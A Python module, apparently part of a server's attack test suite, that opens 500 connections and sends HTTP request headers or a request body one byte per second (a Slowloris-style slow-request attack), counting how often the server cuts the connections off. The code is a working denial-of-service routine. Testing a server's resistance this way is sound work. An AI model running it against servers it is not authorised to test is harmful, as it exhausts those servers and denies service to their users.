"""500 connections that send their request a byte a second."""

from __future__ import annotations

import asyncio
from contextlib import closing

from scripts.attacks.crew import Crew
from scripts.attacks.target import Target, connect

CONNECTIONS = 500
_BYTE_SECONDS = 1.0


async def drip_headers(target: Target, crew: Crew) -> None:
    """500 that send the headers of a request a byte a second."""
    await _drip(target, crew, at_once=b"", slowly=target.send())


async def drip_body(target: Target, crew: Crew) -> None:
    """500 that send the body of a request a byte a second."""
    head, _, body = target.send(text="x" * 1000).partition(b"\r\n\r\n")
    await _drip(target, crew, at_once=head + b"\r\n\r\n", slowly=body)


async def _drip(target: Target, crew: Crew, *, at_once: bytes, slowly: bytes) -> None:
    async def part(number: int) -> None:
        with closing(await connect(target)) as connection:
            await connection.send(at_once + slowly[:1])
            crew.in_place(number)
            ended = asyncio.ensure_future(connection.ended())
            for place in range(1, len(slowly)):
                if (await asyncio.wait([ended], timeout=_BYTE_SECONDS))[0]:
                    crew.counts["ended by the server"] += 1
                    return
                await connection.send(slowly[place : place + 1])
            await ended

    await crew.run(CONNECTIONS, part)
